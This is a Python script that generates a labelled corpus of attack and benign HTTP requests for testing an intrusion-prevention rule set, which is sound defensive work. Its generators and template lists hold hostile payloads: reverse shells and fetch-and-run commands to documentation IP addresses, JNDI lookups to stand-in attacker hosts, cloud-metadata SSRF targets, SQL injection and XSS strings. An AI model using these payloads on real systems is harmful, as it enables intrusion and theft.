#!/usr/bin/env python3
"""ips_corpus.py - build the detection corpora of the default rule set (rules/default.rules).

    ips_corpus.py OUTDIR

Writes one raw HTTP message per file:
    OUTDIR/attack/{dev,held}/CATEGORY/NNNNN.http   ingress attack requests
    OUTDIR/benign/{dev,held}/NNNNN.http            benign requests
    OUTDIR/egress/{dev,held}/CATEGORY/NNNNN.http   responses leaking information
    OUTDIR/egress_benign/{dev,held}/NNNNN.http     benign responses

Deterministic (fixed seeds). Attack payloads are read at run time from Debian packages:
    wfuzz   /usr/share/wfuzz/wordlist/{Injections,vulns}        (DEV; dirTraversal lists split 50/50)
    sqlmap  /usr/share/sqlmap/data/xml/{payloads,boundaries}    (DEV: plain; HELD: tamper scripts)
    wapiti  wapitiCore/data/attacks/*                           (HELD: sqli, xss, cmdi, lfi, rfi)
NEW held-out split ("new", written after the first two splits were measured, before measuring it;
no rule was changed after its first measurement):
    wfuzz   vulns/sql_inj.txt, Injections/All_attack.txt (lines with a tag or script: xss)
    modsecurity-crs  scanners-user-agents.data (scanner), lfi-os-files.data (traversal targets),
                     unix-shell.data + windows-powershell-commands.data (cmdi commands)
    hand-written payloads in other syntaxes (templates C below): sqli per DBMS, xss, cmdi
    separators, traversal prefixes, rfi, ssrf, ssti; benign templates C
Categories without a Debian payload source (cmdi DEV, rfi DEV, ssrf, ssti/jndi, scanner) come from
the generators below; their HELD sets use different templates, written before the rules.
"""
import base64
import glob
import importlib
import json
import os
import random
import re
import sys
import urllib.parse
import xml.etree.ElementTree as ET

WFUZZ = "/usr/share/wfuzz/wordlist"
SQLMAP = "/usr/share/sqlmap"
WAPITI = "/usr/lib/python3/dist-packages/wapitiCore/data/attacks"
CRS = "/usr/share/modsecurity-crs/rules"

HOSTS = ["shop.example.com", "www.example.org", "api.example.net", "intranet.example.com"]
UAS = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 13_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "curl/7.88.1", "python-requests/2.28.1", "okhttp/4.10.0",
]
PARAMS = ["id", "q", "page", "name", "user", "item", "cat", "search", "file", "lang", "sort", "ref"]


# ---------------------------------------------------------------- request building

def q_wire(s):
    """Encode a payload that is already in wire form (may hold %XX): only characters that cannot
    appear in a request target are escaped; '%' is kept."""
    out = []
    for ch in s:
        o = ord(ch)
        if ch in " \"<>`{}|\\^#" or o < 0x21 or o > 0x7e:
            out.append("".join("%%%02X" % b for b in ch.encode("utf-8", "surrogatepass")))
        else:
            out.append(ch)
    return "".join(out)


def q_plain(s, rnd):
    """Encode a plain payload as a browser or a tool would (quote_plus or %20 spaces)."""
    if rnd.random() < 0.5:
        return urllib.parse.quote_plus(s, safe="")
    return urllib.parse.quote(s, safe="")


def request(method, target, host, ua, headers=(), body=None, ctype=None):
    lines = ["%s %s HTTP/1.1" % (method, target), "Host: " + host]
    if ua is not None:
        lines.append("User-Agent: " + ua)
    lines.append("Accept: */*")
    for h in headers:
        lines.append(h)
    b = b""
    if body is not None:
        b = body if isinstance(body, bytes) else body.encode("utf-8", "surrogatepass")
        lines.append("Content-Type: " + ctype)
        lines.append("Content-Length: %d" % len(b))
    return ("\r\n".join(lines) + "\r\n\r\n").encode("utf-8", "surrogatepass") + b


def place(payload, wire, rnd, positions, ua=None):
    """Put a payload into one realistic request position chosen from positions."""
    pos = rnd.choice(positions)
    host = rnd.choice(HOSTS)
    ua = ua or rnd.choice(UAS)
    p = rnd.choice(PARAMS)
    enc = q_wire(payload) if wire else q_plain(payload, rnd)
    path = rnd.choice(["/index.php", "/products", "/search", "/api/v1/items", "/page.jsp", "/view"])
    if pos == "query":
        pre = "" if rnd.random() < 0.6 else "lang=en&"
        return request("GET", "%s?%s%s=%s" % (path, pre, p, enc), host, ua)
    if pos == "form":
        body = "%s=%s&submit=Send" % (p, enc)
        return request("POST", path, host, ua, body=body, ctype="application/x-www-form-urlencoded")
    if pos == "json":
        val = urllib.parse.unquote(payload) if wire else payload
        body = json.dumps({p: val, "page": 1} if p != "page" else {"page": val, "limit": 20})
        return request("POST", "/api/v1/" + p, host, ua, body=body, ctype="application/json")
    if pos == "cookie":
        c = q_wire(payload).replace(";", "%3B").replace(",", "%2C") if wire else \
            urllib.parse.quote(payload, safe="")
        return request("GET", path, host, ua, headers=["Cookie: session=ab12cd34; %s=%s" % (p, c)])
    if pos == "header":
        v = payload.replace("\r", " ").replace("\n", " ")
        h = rnd.choice(["Referer: ", "X-Forwarded-For: ", "X-Api-Version: "])
        if h == "Referer: ":
            v = "https://%s/?%s=%s" % (host, p, q_wire(v))
        return request("GET", path, host, ua, headers=[h + v])
    if pos == "path":
        pl = q_wire(payload)
        if not pl.startswith("/"):
            pl = "/" + pl
        return request("GET", rnd.choice(["", "/static", "/download"]) + pl, host, ua)
    raise ValueError(pos)


def lines_of(path):
    with open(path, encoding="utf-8", errors="surrogateescape") as f:
        return [l.rstrip("\r\n") for l in f if l.strip() and not l.startswith("#")]


FILES = ["etc/passwd", "etc/shadow", "boot.ini", "windows/win.ini", "etc/hosts", "proc/self/environ"]


def fill_file(p, rnd):
    """wfuzz's traversal lists hold a {FILE} placeholder for the target file."""
    return p.replace("{FILE}", rnd.choice(FILES))


# ---------------------------------------------------------------- sqlmap payloads

def sqlmap_payloads(rnd, n):
    tests = []
    for f in sorted(glob.glob(SQLMAP + "/data/xml/payloads/*.xml")):
        for t in ET.parse(f).getroot().findall("test"):
            tests.append((t.findtext("request/payload") or "", t.findtext("request/comment") or "",
                          t.findtext("request/columns") or ""))
    bounds = [(b.findtext("prefix") or "", b.findtext("suffix") or "")
              for b in ET.parse(SQLMAP + "/data/xml/boundaries.xml").getroot().findall("boundary")]
    out = []
    for _ in range(n):
        pl, com, cols = rnd.choice(tests)
        pre, suf = rnd.choice(bounds)
        if not pl:  # UNION test
            ncol = rnd.randint(1, 10)
            fill = rnd.choice(["NULL", str(rnd.randint(1000, 9999))])
            cs = [fill] * ncol
            cs[rnd.randrange(ncol)] = "CONCAT(0x%s,0x%s,0x%s)" % ("716b767871", "4a6b5a", "7178767071")
            pl = "UNION ALL SELECT " + ",".join(cs)
        if com:
            suf = com
        s = rnd.choice(["1", "42", "abc", ""]) + pre + " " + pl + suf
        rnum = lambda m: str(rnd.randint(1000, 9999))
        s = re.sub(r"\[RANDNUM\d?\]", rnum, s)
        s = re.sub(r"\[RANDSTR\d?\]", lambda m: "".join(rnd.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(4)), s)
        rep = {"[SLEEPTIME]": "5", "[DELIMITER_START]": "qkvxq", "[DELIMITER_STOP]": "qxvpq",
               "[INFERENCE]": "%d=%d" % ((rnd.randint(1000, 9999),) * 2), "[GENERIC_SQL_COMMENT]": "-- -",
               "[ORIGVALUE]": "1", "[ORIGINAL]": "1", "[CHAR]": "NULL", "[SPACE_REPLACE]": " ",
               "[HASH_REPLACE]": "#", "[DOLLAR_REPLACE]": "$", "[AT_REPLACE]": "@", "[DELAYED]": "5",
               "[QUERY]": "SELECT 1", "[COLSTART]": "1", "[COLSTOP]": "10", "[UNION]": "UNION ALL SELECT NULL"}
        for k, v in rep.items():
            s = s.replace(k, v)
        out.append(s)
    return out


def sqlmap_tampers():
    sys.path.insert(0, SQLMAP)
    try:
        from lib.core.data import kb
        kb.keywords = set(lines_of(SQLMAP + "/data/txt/keywords.txt"))
    except Exception:
        pass
    names = ["space2comment", "space2morecomment", "space2mysqldash", "space2hash", "space2mssqlhash",
             "space2randomblank", "space2mysqlblank", "space2plus", "modsecurityversioned",
             "modsecurityzeroversioned", "symboliclogical", "unionalltounion", "randomcase",
             "randomcomments", "versionedkeywords", "versionedmorekeywords", "uppercase", "lowercase",
             "between", "equaltolike", "charencode", "chardoubleencode", "charunicodeencode",
             "apostrophemask", "apostrophenullencode", "greatest", "halfversionedmorekeywords",
             "multiplespaces", "misunion", "scientific", "commentbeforeparentheses", "ifnull2ifisnull",
             "unmagicquotes", "space2dash", "sp_password", "bluecoat", "least", "if2case"]
    fns = []
    for n in names:
        try:
            m = importlib.import_module("tamper." + n)
            m.tamper("1 AND 1=1")
            fns.append((n, m.tamper))
        except Exception:
            pass
    return fns


# ---------------------------------------------------------------- wapiti payloads (HELD)

def wapiti_sub(s, rnd):
    rep = {"[TIME]": "5", "[TIMEOUT]": "5", "[TAB]": "\t", "[LF]": "\n", "[FF]": "\f",
           "[VALUE]": "1", "[DIRVALUE]": "images/", "[EXTVALUE]": "index.php", "[FILE_NAME]": "index.php",
           "[ATTR_SEP]": " ", "[VALUE_SEP]": "/", "[EXTERNAL_ENDPOINT]": "http://wapiti3.ovh/"}
    for k, v in rep.items():
        s = s.replace(k, v)
    return s.replace("__XSS__", "w" + str(rnd.randint(10 ** 8, 10 ** 9)))


def ini_payloads(path):
    out = []
    sect = ""
    for l in lines_of(path):
        m = re.match(r"^\[(\w+)\]$", l.strip())
        if m:
            sect = m.group(1)
        elif l.startswith("payload") and "=" in l:
            out.append((sect, l.split("=", 1)[1].strip()))
    return out


# ---------------------------------------------------------------- self-written generators

def gen_cmdi(rnd, held):
    cmds_dev = ["id", "whoami", "uname -a", "cat /etc/passwd", "ls -la /", "sleep 5", "ping -c 3 127.0.0.1",
                "nc -e /bin/sh 203.0.113.5 4444", "wget http://203.0.113.5/x.sh", "curl http://203.0.113.5/s|sh",
                "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "echo hacked > /tmp/x", "ifconfig", "net user",
                "powershell -enc SQBFAFgA", "cmd.exe /c dir", "rm -rf /tmp/*", "python -c 'import os'"]
    cmds_held = ["cat /etc/shadow", "/bin/busybox telnetd", "nslookup attacker.test", "perl -e 'print 1'",
                 "php -r 'system(\"id\");'", "type C:\\Windows\\win.ini", "/usr/bin/id", "uname", "sh -c id",
                 "chmod +x /tmp/a", "tftp -i 203.0.113.9 GET a.exe", "certutil -urlcache -f http://203.0.113.9/a a",
                 "env", "hostname", "ps aux", "timeout 5", "dig example.test", "busybox wget http://203.0.113.9/m"]
    seps_dev = [";", "|", "||", "&&", "&", "\n", "`%s`", "$(%s)"]
    seps_held = ["; ", " | ", "%0a", "\r\n", "|| ", "$(%s)", "`%s`", "& ", ";${IFS}"]
    cmds = cmds_held if held else cmds_dev
    seps = seps_held if held else seps_dev
    c = rnd.choice(cmds)
    if held and rnd.random() < 0.3:
        c = c.replace(" ", "${IFS}")
    s = rnd.choice(seps)
    v = rnd.choice(["127.0.0.1", "example.com", "test", "1", ""])
    if "%s" in s:
        return v + s % c
    return v + s + c


def gen_rfi(rnd, held):
    hosts = ["evil.example.net", "203.0.113.7", "attacker.test", "pastebin.example.com"] if not held else \
            ["198.51.100.23", "xpl.example.org", "files.attacker.test:8080", "cdn-evil.example.com"]
    files = ["shell.txt", "c99.php", "r57.txt?", "inc.php?", "x.txt%00", "backdoor.jpg"] if not held else \
            ["cmd.txt", "phpinfo.txt??", "id.txt", "webshell.php%00", "payload.gif?", "s.txt#"]
    sch = ["http://", "https://", "ftp://"] if not held else ["http://", "HTTP://", "https://", "ftp://", "//"]
    return rnd.choice(sch) + rnd.choice(hosts) + "/" + rnd.choice(["", "x/", "tmp/"]) + rnd.choice(files)


def gen_ssrf(rnd, held):
    if not held:
        targets = ["http://127.0.0.1/", "http://localhost:8080/admin", "http://169.254.169.254/latest/meta-data/",
                   "http://metadata.google.internal/computeMetadata/v1/", "http://10.0.0.5:6379/",
                   "http://192.168.1.1/", "http://172.16.0.10:9200/_cat/indices", "gopher://127.0.0.1:6379/_INFO",
                   "file:///etc/passwd", "http://[::1]/", "http://0.0.0.0:22/", "dict://127.0.0.1:11211/stat"]
    else:
        targets = ["http://2130706433/", "http://0x7f000001/", "http://127.1/", "http://169.254.169.254/computeMetadata/v1/",
                   "http://100.100.100.200/latest/meta-data/", "http://[0:0:0:0:0:ffff:127.0.0.1]/",
                   "http://localhost.localdomain/", "http://192.168.0.1:8000/", "http://10.1.2.3/internal",
                   "http://169.254.170.2/v2/credentials", "http://metadata/computeMetadata/v1/", "http://0177.0.0.1/",
                   "http://127.0.0.1:2375/containers/json", "ldap://127.0.0.1/", "http://[::ffff:a9fe:a9fe]/"]
    t = rnd.choice(targets)
    if held and rnd.random() < 0.2:
        t = t.replace("http://", "HTTP://")
    return t


def gen_ssti(rnd, held):
    if not held:
        pl = ["{{7*7}}", "{{config}}", "{{self.__class__.__mro__}}", "${7*7}", "<%= 7*7 %>", "#{7*7}",
              "${jndi:ldap://203.0.113.5:1389/a}", "${jndi:rmi://attacker.test/x}", "{{''.__class__.__mro__[1].__subclasses__()}}",
              "${T(java.lang.Runtime).getRuntime().exec('id')}", "{{request.application.__globals__}}",
              "*{7*7}", "${{7*7}}", "{% import os %}{{os.system('id')}}", "%{(#_='multipart/form-data')}",
              "${jndi:dns://attacker.test/a}", "{{lipsum.__globals__.os.popen('id').read()}}"]
    else:
        pl = ["${${lower:j}ndi:${lower:l}dap://198.51.100.1/a}", "${${::-j}${::-n}${::-d}${::-i}:ldap://x.test/a}",
              "${jndi:ldaps://x.attacker.test/o}", "${${env:BARFOO:-j}ndi:ldap://x.test/}", "${jndi:iiop://x.test/}",
              "{{ 7 * 7 }}", "{{range.constructor(\"return process\")()}}", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
              "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}", "#set($x=7*7)${x}",
              "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}", "@(7*7)", "${{<%[%'\"}}%\\.",
              "{{cycler.__init__.__globals__.os.popen('id').read()}}", "${class.getClassLoader()}",
              "#{T(java.lang.System).getenv()}", "${@java.lang.Runtime@getRuntime().exec(\"id\")}"]
    return rnd.choice(pl)


SCAN_DEV = ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
            "Wfuzz/3.1.0", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "masscan/1.3",
            "Mozilla/5.0 zgrab/0.x", "DirBuster-1.0-RC1", "gobuster/3.5", "WPScan v3.8.22", "Acunetix-Product",
            "Nmap Scripting Engine", "ZmEu", "Morfeus Fucking Scanner", "w3af.org", "Arachni/v1.5.1"]
SCAN_HELD = ["sqlmap/1.4.7#stable (http://sqlmap.org)", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
             "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)", "Wfuzz/2.4", "Fuzz Faster U Fool v2.0.0",
             "feroxbuster/2.10.0", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
             "Mozilla/5.0 (compatible; Nuclei/2.9)", "OpenVAS-VT", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; Acunetix)",
             "commix/v3.7 (https://commixproject.com)", "dirb/2.22", "Jorgee", "Hydra v9.4", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Netsparker"]


# ---------------------------------------------------------------- attack corpora

def attack_corpus(seed, held):
    rnd = random.Random(seed)
    cats = {}
    pos_std = ["query", "query", "form", "json", "cookie"]
    # SQL injection
    sq = []
    if not held:
        for p in lines_of(WFUZZ + "/Injections/SQL.txt"):
            sq.append((p, True))
        for p in sqlmap_payloads(rnd, 700):
            sq.append((p, False))
    else:
        for p in lines_of(WAPITI + "/blindSQLPayloads.txt"):
            sq.append((wapiti_sub(p, rnd), False))
        tampers = sqlmap_tampers()
        for p in sqlmap_payloads(rnd, 700):
            name, fn = rnd.choice(tampers)
            try:
                t = fn(p)
            except Exception:
                continue
            sq.append((t, bool(re.search(r"%[0-9A-Fa-f]{2}", t))))
    cats["sqli"] = [place(p, w, rnd, pos_std + ["header"]) for p, w in sq]
    # XSS
    xs = []
    if not held:
        xs = [(p, True) for p in lines_of(WFUZZ + "/Injections/XSS.txt")]
        xs = xs * 4
    else:
        xs = [(wapiti_sub(p, rnd), False) for _, p in ini_payloads(WAPITI + "/xssPayloads.ini")]
    cats["xss"] = [place(p, w, rnd, pos_std) for p, w in xs]
    # path traversal / LFI
    trav = sorted(set(lines_of(WFUZZ + "/vulns/dirTraversal-nix.txt") + lines_of(WFUZZ + "/vulns/dirTraversal-win.txt")
                      + lines_of(WFUZZ + "/vulns/dirTraversal.txt")))
    split = random.Random(20240901)
    split.shuffle(trav)
    half = len(trav) // 2
    tr = []
    if not held:
        tr = [(p, True) for p in lines_of(WFUZZ + "/Injections/Traversal.txt")] + \
             [(fill_file(p, rnd), True) for p in trav[:half]]
    else:
        tr = [(fill_file(p, rnd), True) for p in trav[half:]]
        tr += [(wapiti_sub(p, rnd), False) for s, p in ini_payloads(WAPITI + "/fileHandlingPayloads.ini")
               if "EXTERNAL_ENDPOINT" not in p and "http" not in p]
    cats["traversal"] = [place(p, w, rnd, ["query", "query", "form", "json", "cookie", "path"] if w else pos_std)
                         for p, w in tr]
    # remote file inclusion
    rf = [(gen_rfi(rnd, held), False) for _ in range(150)]
    if held:
        rf += [(wapiti_sub(p, rnd), False) for s, p in ini_payloads(WAPITI + "/fileHandlingPayloads.ini")
               if "EXTERNAL_ENDPOINT" in p] * 10
    cats["rfi"] = [place(p, w, rnd, ["query", "query", "form", "json"]) for p, w in rf]
    # OS command injection
    cm = [(gen_cmdi(rnd, held), False) for _ in range(300)]
    if held:
        cm += [(wapiti_sub(p, rnd), False) for p in lines_of(WAPITI + "/execPayloads.txt")] * 4
    cats["cmdi"] = [place(p, w, rnd, pos_std) for p, w in cm]
    cats["ssrf"] = [place(gen_ssrf(rnd, held), False, rnd, ["query", "query", "form", "json"]) for _ in range(250)]
    cats["ssti"] = [place(gen_ssti(rnd, held), False, rnd, pos_std + ["header", "header"]) for _ in range(250)]
    uas = SCAN_HELD if held else SCAN_DEV
    cats["scanner"] = [request("GET", rnd.choice(["/", "/admin/", "/index.php?id=1", "/robots.txt", "/.git/HEAD"]),
                               rnd.choice(HOSTS), rnd.choice(uas)) for _ in range(100)]
    return cats


# ---------------------------------------------------------------- benign corpora

WORDS_A = ("the a of to and in is for on with as at by from select union drop table script alert order "
           "where join update delete insert create grant shell exec system cat ls ping sleep root admin "
           "password file include http www or not null like between having group by concat").split()
NAMES = ["O'Brien", "D'Angelo", "O'Neil", "Zoë Smith", "Jean-Luc Picard", "Anne-Marie D'Arcy", "Ngozi Okafor",
         "José García", "McDonald's", "Li Wei", "Renée O'Connor", "Sinéad O'Connor", "Mary-Kate", "André"]
PHRASES_A = [
    "how to select a good laptop", "union station opening hours", "drop table tennis lessons near me",
    "script writing course", "best order of harry potter books", "where is the nearest pharmacy",
    "can't login to my account", "what's the difference between 1/2 and 0.5", "rock & roll hall of fame",
    "jack o'lantern carving ideas", "select all that apply", "insert coin to continue", "why do cats sleep so much",
    "cat food 5kg", "ping pong table", "system of a down tickets", "delete my account please", "root vegetables recipe",
    "admin assistant jobs", "shell beach california", "sleep apnea symptoms", "create a new playlist",
    "update on the union strike", "grant application deadline", "c# vs java", "50% off sale", "1+1=2 proof",
    "\"exact phrase\" search", "10 < 20 > 5", "rose's garden", "it's 5 o'clock somewhere", "or not to be",
    "SELECT committee report 2023", "the drop zone", "tickets from paris to london", "where we are going",
    "i'd like a table for two", "new york union square", "and then there were none",
]
PHRASES_B = [
    "Kindly select your preferred delivery slot", "Union Pacific railroad history", "Drop-off locations in town",
    "Javascript: the good parts (book)", "Order #12345 hasn't arrived", "Who's on first?",
    "I'll be there at 7pm; see you", "Flights from Dublin -> Boston", "Mom & Pop's diner", "Prices: $5 - $10",
    "Email me at jane.doe@example.com", "Take 2 tablets, 3 times/day", "Is 3 > 2? yes", "Sleep well, sweet dreams",
    "Command line basics for beginners", "Table of contents", "How does a union find algorithm work",
    "Insert the SIM card, then restart", "Cat & dog grooming", "The shell game", "Select Comfort mattress review",
    "Path of exile build guide", "Execute order 66 meme", "Having trouble logging in", "Grant's tomb",
    "'Twas the night before Christmas", "She said \"hi\"", "Résumé tips", "Roots of unity", "The Alert Button",
]
COMMENTS = [
    "Great product, <b>highly</b> recommended!", "I <i>love</i> it. 5 stars.", "Shipping was slow :( but OK",
    "Works as described. Don't buy the cheap version.", "See <a href=\"https://www.wikipedia.org/\">wiki</a>",
    "Line one\nLine two\nLine three", "<p>Paragraph</p><ul><li>one</li><li>two</li></ul>",
    "Use the 'select' button then 'union' merge in the menu.", "10/10 would buy again!!!",
    "Price went from $20 to $15 -- nice", "My son's favourite toy; he's 5.", "x = a + b; y = x * 2",
    "<strong>Note:</strong> size runs small", "Tried it on Windows & Linux, fine", "It's <em>okay</em>, I guess",
]
SITES = ["https://www.wikipedia.org/wiki/HTTP", "https://github.com/torvalds/linux", "https://www.bbc.co.uk/news",
         "https://docs.python.org/3/library/re.html", "https://www.example.com/path?x=1&y=2",
         "http://news.ycombinator.com/item?id=123", "https://maps.google.com/?q=eiffel+tower",
         "https://cdn.jsdelivr.net/npm/vue@3/dist/vue.js", "https://www.debian.org/releases/bookworm/"]


def rword(rnd, n):
    return " ".join(rnd.choice(WORDS_A) for _ in range(n))


def benign_value(rnd, held):
    k = rnd.random()
    phrases = PHRASES_B if held else PHRASES_A
    if k < 0.25:
        return rnd.choice(phrases)
    if k < 0.35:
        return rnd.choice(NAMES)
    if k < 0.45:
        return rnd.choice(COMMENTS)
    if k < 0.52:
        return rnd.choice(SITES)
    if k < 0.58:
        return base64.b64encode(rnd.randbytes(rnd.randint(6, 60))).decode()
    if k < 0.66:
        return str(rnd.randint(0, 10 ** rnd.randint(1, 9)))
    if k < 0.72:
        return "%04d-%02d-%02d" % (rnd.randint(1990, 2030), rnd.randint(1, 12), rnd.randint(1, 28))
    if k < 0.8:
        return rword(rnd, rnd.randint(1, 6))
    if k < 0.86:
        return "%s.%s@example.%s" % (rnd.choice(["jane", "o'hara", "bob", "li"]), rnd.choice(["doe", "x"]),
                                      rnd.choice(["com", "org"]))
    if k < 0.92:
        return rnd.choice(["en-US", "fr_FR", "price_asc", "name desc", "created_at", "-rating", "true", "false"])
    return rnd.choice(phrases) + " " + rnd.choice(NAMES)


STATIC_A = ["/static/css/site.css", "/static/js/app.min.js", "/img/logo.png", "/favicon.ico", "/fonts/roboto.woff2",
            "/static/css/../img/bg.jpg", "/assets/js/../css/main.css", "/docs/guide/../faq.html",
            "/images/2023/../2024/photo.jpg", "/blog/2024/05/hello-world/", "/robots.txt", "/sitemap.xml"]
STATIC_B = ["/public/build/bundle.3f2a.js", "/media/uploads/avatar_12.webp", "/a/b/../../c/d.png",
            "/theme/./css/print.css", "/wiki/Main_Page", "/downloads/manual-v2.pdf", "/shop/cart/../checkout",
            "/en/about-us/", "/api/../health", "/static//js//vendor.js", "/.well-known/security.txt"]


def benign_request(rnd, held):
    host = rnd.choice(["www.example.org", "shop.example.com", "app.example.net"])
    ua = rnd.choice(UAS[:4] if not held else UAS)
    k = rnd.random()
    ck = "session=%s; theme=%s" % (base64.urlsafe_b64encode(rnd.randbytes(18)).decode().rstrip("="),
                                   rnd.choice(["dark", "light"]))
    if held:
        ck += "; _ga=GA1.2.%d.%d; consent=%s" % (rnd.randint(10 ** 8, 10 ** 9), rnd.randint(10 ** 9, 2 * 10 ** 9),
                                                 urllib.parse.quote(json.dumps({"ads": False, "stats": True})))
    hdrs = ["Cookie: " + ck, "Accept-Language: en-GB,en;q=0.9",
            "Referer: https://%s/%s" % (host, rnd.choice(["", "search?q=shoes", "products/12"]))]
    if k < 0.3:  # search / listing query
        params = {rnd.choice(["q", "search", "query", "s", "term"]): benign_value(rnd, held)}
        for _ in range(rnd.randint(0, 3)):
            params[rnd.choice(PARAMS + ["utm_source", "page", "limit", "redirect", "next", "url"])] = benign_value(rnd, held)
        path = rnd.choice(["/search", "/products", "/api/v2/search", "/blog", "/forum/search.php"])
        return request("GET", path + "?" + urllib.parse.urlencode(params, quote_via=rnd.choice(
            [urllib.parse.quote_plus, urllib.parse.quote])), host, ua, hdrs)
    if k < 0.5:  # form
        fields = {"name": rnd.choice(NAMES), "email": "%s@example.com" % rnd.choice(["a.b", "c", "o'reilly"]),
                  "comment": rnd.choice(COMMENTS) + " " + rnd.choice(PHRASES_B if held else PHRASES_A)}
        if rnd.random() < 0.4:
            fields["website"] = rnd.choice(SITES)
        if rnd.random() < 0.3:
            fields["password"] = "".join(rnd.choice("abcdefXYZ0123!@#$%^&*()'\"-_=+") for _ in range(12))
        body = urllib.parse.urlencode(fields)
        return request("POST", rnd.choice(["/contact", "/comments/add", "/signup", "/login", "/profile"]), host, ua,
                       hdrs, body, "application/x-www-form-urlencoded")
    if k < 0.7:  # JSON API
        doc = {"id": rnd.randint(1, 99999), "title": benign_value(rnd, held), "tags": [rnd.choice(WORDS_A) for _ in range(3)],
               "author": {"name": rnd.choice(NAMES), "url": rnd.choice(SITES)}, "body": rnd.choice(COMMENTS),
               "query": rnd.choice(PHRASES_B if held else PHRASES_A), "active": rnd.random() < 0.5,
               "price": round(rnd.random() * 100, 2)}
        if held:
            doc["meta"] = {"filter": "status in ('open','closed') and owner = 'me'", "sort": "-created"}
        return request(rnd.choice(["POST", "PUT", "PATCH"]), "/api/v1/%s/%d" % (rnd.choice(["posts", "orders", "users"]),
                       rnd.randint(1, 9999)), host, ua, hdrs + ["Authorization: Bearer " +
                       base64.urlsafe_b64encode(rnd.randbytes(30)).decode()], json.dumps(doc), "application/json")
    if k < 0.8:  # multipart upload
        bnd = "----WebKitFormBoundary" + "".join(rnd.choice("ABCDEFabcdef0123456789") for _ in range(16))
        fname, ctype, data = rnd.choice([
            ("report.txt", "text/plain", (rnd.choice(PHRASES_A + PHRASES_B) + "\n") * rnd.randint(1, 20)),
            ("photo.jpg", "image/jpeg", rnd.randbytes(rnd.randint(200, 2000)).decode("latin-1")),
            ("data.csv", "text/csv", "name,city\n" + "\n".join("%s,%s" % (rnd.choice(NAMES), rnd.choice(["Paris", "Cork"]))
                                                              for _ in range(10))),
            ("notes.md", "text/markdown", "# Notes\n* select the right tool\n* don't drop the ball\n")])
        body = ("--%s\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n%s\r\n"
                "--%s\r\nContent-Disposition: form-data; name=\"file\"; filename=\"%s\"\r\nContent-Type: %s\r\n\r\n%s\r\n--%s--\r\n"
                % (bnd, rnd.choice(NAMES), bnd, fname, ctype, data, bnd))
        return request("POST", "/upload", host, ua, hdrs, body.encode("latin-1", "replace") if ctype == "image/jpeg"
                       else body.encode("utf-8"), "multipart/form-data; boundary=" + bnd)
    # static assets and plain pages
    return request("GET", rnd.choice(STATIC_B if held else STATIC_A), host, ua, hdrs)


# ---------------------------------------------------------------- NEW held-out split (templates C)

SQLI_C = [
    "1' AND 1=CONVERT(int,(SELECT @@version))--", "1';WAITFOR DELAY '0:0:5'--", "1);WAITFOR DELAY '00:00:05';--",
    "x' AND 1=UTL_INADDR.get_host_name((SELECT user FROM dual))--", "1' AND 5=DBMS_PIPE.RECEIVE_MESSAGE('a',5)--",
    "1'||(SELECT pg_sleep(5))||'", "1 AND 1=(SELECT 1 FROM pg_sleep(5))", "1';SELECT pg_sleep(5);--",
    "1' AND 1=randomblob(500000000)--", "1' AND sqlite_version()=sqlite_version()--",
    "' OR 1=1 LIMIT 1 -- -", "admin' #", "admin')-- -", "') OR ('x'='x", "1 OR 1=1", "-1 OR 3>2",
    "1' ORDER BY 10-- -", "1' GROUP BY 1,2,3-- -", "-1' UNION SELECT 1,group_concat(table_name),3 FROM information_schema.tables-- -",
    "1 UNION/**/SELECT/**/NULL,NULL--", "1'/**/oR/**/'1'/**/=/**/'1", "1' AnD SlEeP(5)#", "1%27%20or%20%271%27%3D%271",
    "1' AND extractvalue(1,concat(0x7e,version()))-- -", "1' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -",
    "'; EXEC master..xp_cmdshell 'ping 203.0.113.9'--", "1; DROP TABLE users--", "1'; INSERT INTO users VALUES('x','y')--",
    "' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--", "1 AND (SELECT COUNT(*) FROM sysobjects)>0",
    "' UNION ALL SELECT NULL,NULL,NULL FROM DUAL--", "1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))-- -",
    "1' AND 1=1 AND '%'='", "' or ''='", "\" or \"\"=\"", "1' || '1'='1", "x' OR name LIKE '%", "1 and true",
    "{\"$where\": \"sleep(5000)\"}", "1' AND BENCHMARK(5000000,MD5(1))#", "' HAVING 1=1--", "1 AND ROW(1,1)>(SELECT COUNT(*),1)",
]
XSS_C = [
    "<svg/onload=alert(1)>", "<img src=x onerror=alert`1`>", "<body onpageshow=alert(1)>", "<details open ontoggle=alert(1)>",
    "\"><iframe srcdoc=\"<script>alert(1)</script>\">", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<math><mtext><img src=x onerror=alert(1)>",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<input autofocus onfocus=alert(1)>", "'-alert(1)-'", "\";alert(document.domain);//", "<scr<script>ipt>alert(1)</script>",
